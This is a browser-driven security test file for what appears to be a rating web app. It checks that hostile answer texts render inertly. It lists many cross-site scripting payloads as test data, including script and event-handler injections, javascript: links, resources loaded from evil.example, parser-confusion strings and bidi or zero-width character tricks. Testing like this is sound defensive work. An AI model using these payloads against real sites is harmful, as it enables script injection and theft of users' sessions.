// Texts that want to act: no script of theirs runs, no dialog opens, nothing is asked of another site, nothing is
// hidden, and the page around them stays usable.
import assert from "node:assert/strict";
import {after, before, test} from "node:test";
import {item, join_, kTestTime, next, open, ready, signIn, startBrowser, withSite} from "./site.mjs";

const kMegabyte = 1 << 20;
const kMarks = "\u0351\u036b\u0343\u036a\u0302\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u0320\u034d";

// What acts by itself where it is taken for HTML.
const kLive = [
  "<script>window.hacked = true</script>",
  "<img src=x onerror=\"window.hacked = true\">",
  "<svg onload=alert(1)>",
  "<svg><script href=\"https://evil.example/x.js\"></script></svg>",
  "<script src=https://evil.example/x.js></script>",
  "<iframe srcdoc=\"<script>parent.hacked = true</script>\"></iframe><iframe src=https://evil.example></iframe>",
  "<details open ontoggle=\"window.hacked = true\"><summary>more</summary></details>",
  "<input autofocus onfocus=\"window.hacked = true\">",
  "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>",
  "<video autoplay><source onerror=alert(1) src=x></video><audio src=https://evil.example/a.mp3 autoplay></audio>",
  "<object data=https://evil.example/o></object><embed src=https://evil.example/e>",
  "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
];

// What waits for a click, changes the page around it, or tries a parser.
const kHtml = [
  "<base href=https://evil.example/><a href=\"javascript:window.hacked = true\">here</a>",
  "<a href=https://evil.example target=_blank ping=https://evil.example/ping>here</a>",
  "</div></section></main></body></html><form id=rating action=https://evil.example><button>Submit</button></form>",
  "<form><input name=csrf value=x></form>",
  "<div id=saved>Draft saved</div><input name=item value=0><div id=go-on>Go on</div>",
  "<div style=\"position: fixed; inset: 0; background: red\">over everything</div>",
  "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->\n\n<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?php <img src=x onerror=alert(1)> ?>",
  "</pre></textarea></title></style></noscript><script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt> <ScRiPt\n>alert(1)</sCrIpT\n>",
  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
  "\"><svg onload=alert(1)> ' onmouseover='alert(1) `onclick=alert(1)`",
  "<template><script>alert(1)</script></template><noscript><img src=x onerror=alert(1)></noscript>",
];

const kMarkdown = [
  "[here](javascript:window.hacked=true) [here](JaVaScRiPt:alert(1)) [here](vbscript:x)",
  "[here](data:text/html,<script>alert(1)</script>) [here](\\javascript:alert(1)) [here](<javascript:alert(1)>)",
  "[here](java&#115;cript:alert(1)) [here](&#x6A;avascript:alert(1))",
  "<javascript:window.hacked=true> <https://evil.example/> https://evil.example/ www.evil.example mail@evil.example",
  "![x](https://evil.example/x.png) ![x](//evil.example/x.png)",
  "[![x](https://evil.example/y.png)](https://evil.example/)",
  "[one] [two][three]\n\n[one]: javascript:alert(1) \"title\"\n[three]: https://evil.example/ 'x\" onclick=\"alert(1)'",
  "[x](https://evil.example/ \"onmouseover=alert(1)\") [x](https://evil.example/\"onclick=\"alert(1))",
  "```\"onclick=alert(1) class=primary\n<script>alert(1)</script>\n```",
  "~~~ html\" id=\"rating\n</code></pre><img src=x onerror=alert(1)>",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|:--|--:|\n| <script>alert(1)</script> | `</td>` |",
  "# <svg onload=alert(1)>\n\n###### deep\n\nSet [text](\n\n***\n\n- [ ] <input>\n- [x] [x](javascript:alert(1))",
  "<div>\n\n**bold** in a block <b onclick=alert(1)>b</b>\n\n</div>\n\n[^1]\n\n[^1]: note",
  "{{csrf}} {{{csrf}}} {{#turns}}x{{/turns}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
  `${">".repeat(2000)} deep ${"[".repeat(5000)}${"*a **a ".repeat(2000)}`,
  `${"`".repeat(9999)} ${"![[]()".repeat(2000)}`,
];

const kCharacters = [
  Array.from({length: 160}, (_, code) => String.fromCharCode(code)).join("").replace("\n", ""),
  "\u202Eabc\u202C \u202Dabc \u202Babc \u2066abc \u2067abc \u2068abc \u200Fabc \u061Cabc, never closed",
  "&#x202E;abc&#8236; &#8295;abc &rlm;abc &lrm; &ZeroWidthSpace; &NoBreak; &#65279; &#917569; &#13; &#27; &#127; &#0;",
  "[&#x202E;gpj.exe](https://evil.example/&#x202E;x) `&#x202E;` ![&rlm;](x)",
  "zero\u200Bwidth \uFEFF \u2060 \u00AD \u180E \uFFF9a\uFFFAb\uFFFB \u{E0041}\u{E0042} \u2028 \u2029 \u0085 end",
  `Z${kMarks.repeat(40)} stacked\n\n${`a${kMarks} `.repeat(200)}`,
  "\u0634\u0627\u064a (abc) 123 \u05de\u05d9\u05dd! \u{1F468}\u200D\u{1F469} \u0915\u094d\u200D\u0937 \u{1D173}x\u{1D174}",
  "\ufdfd".repeat(300),
];

const kLong = [
  "x".repeat(kMegabyte),
  "<b onclick=alert(1)>".repeat(kMegabyte / 20),
  "| a ".repeat(15000) + "\n" + "|-".repeat(15000) + "\n|x|\n".repeat(100),
  "[x](javascript:alert(1)) ".repeat(2000),
];

// All texts as answers, half of them also as turns; the long ones one at a time.
function examples() {
  const texts = [...kLive, ...kHtml, ...kMarkdown, ...kCharacters];
  const at = (i) => texts[i % texts.length];
  const made = [];
  for (let i = 0; i < texts.length; i += 2) {
    const turns = [{role: "system", content: at(i + 4)}, {role: "user", content: at(i + 2)}];
    made.push({turns, answers: [at(i), at(i + 1)]});
  }
  const long = kLong.map((text) => ({turns: [{role: "user", content: text.slice(0, 100)}], answers: [text, "x"]}));
  return [...made, ...long];
}

let browser;
before(async () => {
  browser = await startBrowser();
});
after(() => browser.close());

// Watches for everything that a text could make a page do. Nothing is let through to another site.
async function watch(page, site) {
  const seen = [];
  page.on("dialog", async (dialog) => {
    seen.push(`dialog: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.context().on("page", () => seen.push("window"));
  page.on("download", () => seen.push("download"));
  await page.context().route(
    (url) => url.origin !== site.url,
    (route) => {
      seen.push(`request: ${route.request().url()}`);
      return route.abort();
    });
  return seen;
}

const isHacked = (page) => page.evaluate(() => window.hacked !== undefined || parent.hacked !== undefined);

// What is wrong with the texts of a page.
function findings() {
  const kTags = new Set(("P BR HR UL OL LI PRE CODE BLOCKQUOTE H3 H4 H5 H6 EM STRONG DEL TABLE THEAD TBODY TR TH TD")
    .split(" "));
  const kAttributes = {CODE: ["class"], PRE: ["class", "dir"], OL: ["start"], TH: ["align"], TD: ["align"]};
  const kClass = /^(plain|language-\S*)$/;
  const kUnseen = new RegExp(
    "[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u061c\\u180e\\u200b\\u200e\\u200f\\u2028-\\u202e" +
    "\\u2060-\\u206f\\ufeff\\ufff9-\\ufffb\\u{1d173}-\\u{1d17a}\\u{e0000}-\\u{e007f}]", "u");
  const found = [];
  for (const text of document.querySelectorAll(".text")) {
    for (const element of text.querySelectorAll("*")) {
      if (!kTags.has(element.tagName)) found.push(`element ${element.tagName}`);
      for (const {name, value} of element.attributes) {
        if (!(kAttributes[element.tagName] ?? []).includes(name)) found.push(`attribute ${element.tagName} ${name}`);
        if (name === "class" && !kClass.test(value)) found.push(`class ${value}`);
      }
    }
    const unseen = text.textContent.match(kUnseen);
    if (unseen) found.push(`character ${unseen[0].codePointAt(0).toString(16)}`);
  }
  const only = (selector, count) => {
    const all = document.querySelectorAll(selector).length;
    if (all !== count) found.push(`${all} ${selector}`);
  };
  only("main", 1);
  only("#rating", 1);
  only("#rating input[name=item]", 1);
  only("#saved", 1);
  only("#go-on", 0);
  only("a[href]:not([href^='/rate'])", 0);
  only("script", 1);
  if (document.documentElement.scrollWidth > innerWidth) found.push(`${document.documentElement.scrollWidth} wide`);
  const button = document.querySelector("#rating button");
  button.scrollIntoView({block: "center"});
  const box = button.getBoundingClientRect();
  const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
  if (!button.contains(top)) found.push(`the button is under ${top?.outerHTML.slice(0, 100)}`);
  return found;
}

// Clicks on every small part of the texts, as a curious rater would.
function poke() {
  for (const element of [...document.querySelectorAll(".text *")].slice(0, 300)) {
    element.dispatchEvent(new MouseEvent("mouseover", {bubbles: true}));
    element.click();
  }
}

async function checkTexts(page, name) {
  await page.evaluate(poke);
  assert.deepEqual(await page.evaluate(findings), [], name);
  assert.equal(await isHacked(page), false, name);
}

test("the watch sees a script and a dialog and a request and what the policy blocks", kTestTime, async () => {
  await withSite("safety", 1, 1, {}, async (site) => {
    const policy = (await fetch(`${site.url}/join`)).headers.get("content-security-policy");
    for (const text of kLive) {
      for (const isBlocked of [false, true]) {
        const page = await open(browser);
        const seen = await watch(page, site);
        await page.context().route(`${site.url}/trap`, (route) => route.fulfill({
          contentType: "text/html",
          headers: isBlocked ? {"content-security-policy": policy} : {},
          body: `<!doctype html><title>trap</title><main class="text">${text}</main>`,
        }));
        await page.goto(`${site.url}/trap`).catch(() => {});
        const hasActed = async () => seen.length > 0 || (await isHacked(page).catch(() => true));
        const hasToldOrActed = async () => page.errors.length > 0 || (await hasActed());
        if (isBlocked) {
          // The policy is the second wall. What it does not stop (a refresh) goes nowhere here, and is seen.
          for (let i = 0; i < 100 && !(await hasToldOrActed()); ++i) await page.waitForTimeout(100);
          assert.ok(await hasToldOrActed(), `blocked without a word: ${text}`);
          assert.equal(await isHacked(page).catch(() => false), false, text);
          assert.ok(!seen.some((one) => one.startsWith("dialog")), text);
        } else {
          for (let i = 0; i < 100 && !(await hasActed()); ++i) await page.waitForTimeout(100);
          assert.ok(await hasActed(), `the watch is blind for ${text}`);
        }
        await page.context().close();
      }
    }
  });
});

test("hostile texts do nothing and a megabyte stays usable", kTestTime, async () => {
  const texts = examples();
  await withSite("pairwise", texts.length, 1, {texts, study: {practice: []}}, async (site) => {
    const page = await open(browser);
    const seen = await watch(page, site);
    await join_(page, site, 0);
    for (let i = 0; i < texts.length; ++i) {
      await ready(page);
      const id = await item(page);
      const text = await page.locator(".answer .text").first().textContent();
      for (const summary of await page.locator("details.turn summary").all()) await summary.click();
      await checkTexts(page, text.slice(0, 100));
      if (text.length < kMegabyte) {
        await page.goto(`${site.url}/rate?texts=as-written`);
        assert.equal(await item(page), id);
        await checkTexts(page, `as written: ${text.slice(0, 100)}`);
      }
      await page.keyboard.press("4");
      await page.keyboard.press("Enter");
      await next(page, id);
    }
    await page.getByText(`You have rated all that there is for you: ${texts.length}.`).waitFor();
    assert.deepEqual(seen, []);
    assert.deepEqual(page.errors, []);
  });
});

test("hostile words of the lead and of raters are shown as they are", kTestTime, async () => {
  const words = "</p></textarea><script>window.hacked = true</script><img src=x onerror=alert(1)> \"'{{csrf}}";
  const practice = [{
    turns: [{role: "user", content: "Which?"}],
    answers: ["one", "two"],
    right: [1, 3],
    feedback: words,
  }];
  await withSite("pairwise", 2, 1, {study: {question: words, practice}}, async (site) => {
    const [page, lead] = [await open(browser), await open(browser)];
    const seen = [await watch(page, site), await watch(lead, site)];
    await join_(page, site, 0);
    assert.equal((await page.textContent("#rating legend")).trim(), words);
    await page.keyboard.press("1");
    await page.keyboard.press("Enter");
    assert.ok((await page.textContent("#feedback")).includes(words));
    await page.locator("#go-on").click();
    await ready(page);
    await page.locator("summary", {hasText: "Add a note"}).click();
    await page.fill("#note", words);
    await page.getByText("Draft saved").waitFor();
    await page.reload();
    assert.equal(await page.inputValue("#note"), words);
    await page.keyboard.press("Escape");

    await signIn(lead, site);
    await lead.getByLabel("Note").nth(1).fill(words);
    await lead.getByLabel("Links").fill("1");
    await lead.getByRole("button", {name: "Make links"}).click();
    await lead.getByRole("link", {name: "Back to the study"}).click();
    const row = lead.locator("tbody tr").nth(1);
    assert.ok((await row.locator("th").textContent()).includes(words));
    await row.locator("summary").click();
    await row.getByLabel("Reason").fill(words);
    await row.getByRole("button", {name: "Exclude"}).click();
    await lead.getByText("excluded:").waitFor();
    assert.ok((await row.locator("th").textContent()).includes(`excluded: ${words}`));
    await lead.getByText("Live").waitFor();
    for (const one of [page, lead]) {
      assert.equal(await isHacked(one), false);
      assert.equal(await one.locator("main :is(script, img)").count(), 0);
      assert.deepEqual(one.errors, []);
    }
    assert.deepEqual(seen, [[], []]);
  });
});
